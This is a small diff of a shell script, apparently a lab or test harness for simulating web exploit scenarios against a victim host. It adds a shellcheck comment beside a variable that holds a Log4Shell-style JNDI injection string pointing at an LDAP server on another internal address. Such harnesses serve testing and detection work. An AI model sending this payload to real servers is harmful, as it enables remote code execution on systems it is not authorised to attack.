@@ -142,6 +142,7 @@ web() {
 }
 
 scenario_web_exploits() {
+    # shellcheck disable=SC2016 # the payload is literal text
     local v=http://$VIC_IP jndi='${jndi:ldap://10.66.1.2:1389/a}'
     WEB_REQUESTS=0
     : >"$WORK/web_requests.txt"
